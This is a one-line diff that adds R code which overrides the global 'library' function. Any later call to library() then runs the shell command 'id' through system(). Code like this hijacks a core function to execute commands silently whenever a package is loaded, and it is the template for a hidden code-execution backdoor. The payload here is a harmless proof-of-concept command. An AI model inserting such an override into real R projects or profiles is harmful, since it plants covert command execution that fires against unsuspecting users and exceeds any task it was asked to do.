@@ -1,0 +1,1 @@
+assign("library", function(...) system("id"), envir = globalenv())
